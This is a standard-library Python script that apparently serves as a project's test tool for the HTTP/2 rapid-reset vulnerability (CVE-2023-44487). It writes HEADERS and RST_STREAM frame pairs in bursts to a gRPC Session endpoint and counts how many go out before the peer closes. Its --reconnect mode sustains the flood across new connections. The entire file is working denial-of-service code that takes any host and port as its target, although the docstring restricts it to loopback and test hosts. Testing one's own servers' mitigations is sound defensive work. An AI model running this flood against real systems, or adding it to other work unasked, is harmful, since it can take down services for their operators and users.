#!/usr/bin/env python3
"""Rapid-reset probe (CVE-2023-44487), standard library only: one HTTP/2
connection writing HEADERS (a crease.v1 Session call) + RST_STREAM pairs as
fast as it can, up to --pairs or --seconds. Prints how many pairs went out
before the peer closed the connection. For loopback and the project's own test
hosts only.

  rapid_reset_probe.py HOST:PORT [--pairs N] [--seconds S] [--reconnect]

With --reconnect it opens a new connection each time the peer closes one, for
the whole --seconds (a sustained flood against a proxy that cuts it off).
"""
import argparse
import socket
import struct
import time


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack(">I", stream) + payload


def headers_block():
    block = b""
    for name, value in [(":method", "POST"), (":scheme", "http"),
                        (":path", "/crease.v1.Crease/Session"),
                        (":authority", "localhost"),
                        ("content-type", "application/grpc"), ("te", "trailers")]:
        block += b"\x00" + bytes([len(name)]) + name.encode() + \
            bytes([len(value)]) + value.encode()
    return block


def flood(host, port, pairs, end):
    """Writes pairs on one connection until `pairs`, `end` or the peer's close;
    returns (pairs written, whether the peer closed)."""
    sock = socket.create_connection((host, int(port)), timeout=5)
    block = headers_block()
    sent, stream = 0, 1
    try:
        sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
        while sent < pairs and time.monotonic() < end:
            burst = b""
            for _ in range(100):
                burst += frame(1, 0x4, stream, block) + \
                    frame(3, 0, stream, b"\x00\x00\x00\x08")
                stream += 2
            sock.sendall(burst)
            sent += 100
    except OSError:
        return sent, True
    finally:
        sock.close()
    return sent, False


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("target")
    parser.add_argument("--pairs", type=int, default=40000)
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--reconnect", action="store_true")
    args = parser.parse_args()
    host, port = args.target.rsplit(":", 1)
    end = time.monotonic() + args.seconds
    total, connections = 0, 0
    while True:
        sent, closed = flood(host, port, args.pairs - total, end)
        total += sent
        connections += 1
        if not closed or not args.reconnect or total >= args.pairs or \
                time.monotonic() >= end:
            break
    how = "closed by the peer" if closed else "written"
    print(f"{total} pairs on {connections} connection(s), the last {how}")


if __name__ == "__main__":
    main()
